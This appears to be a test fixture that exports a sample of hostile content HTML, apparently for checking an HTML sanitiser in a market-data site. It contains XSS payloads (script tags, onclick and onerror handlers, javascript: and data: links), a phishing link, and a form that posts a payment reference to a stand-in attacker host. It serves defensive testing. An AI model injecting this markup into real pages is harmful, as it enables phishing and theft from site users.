/**
 * Content HTML as a hostile editor or an old row might hold it: page-wide CSS, a script, a
 * form, a frame, an object, an event handler, `javascript:` and `data:` links, a phishing
 * link to a foreign origin and a link to an allow-listed one (`ALLOWED_ORIGIN`).
 */
export const ALLOWED_ORIGIN = 'https://www.nseindia.com';

export const MALICIOUS_HTML =
  '<style>body{background:#c00 !important}.card{display:none}</style>' +
  '<p style="position:fixed;inset:0;background:red" onclick="alert(1)">Market update</p>' +
  '<p><a href="https://evil.example/pay">Deposit to our new account</a></p>' +
  '<p><a href="javascript:alert(1)">Claim bonus</a> <a href="data:text/html,<script>alert(1)</script>">Open</a></p>' +
  `<p><a href="${ALLOWED_ORIGIN}/market-data">NSE market data</a> <a href="/market">Markets</a></p>` +
  '<form action="https://evil.example/steal"><input name="utr"><button>Send UTR</button></form>' +
  '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object>' +
  '<script>alert(1)</script><img src="/favicon.svg" alt="" onerror="alert(1)">';
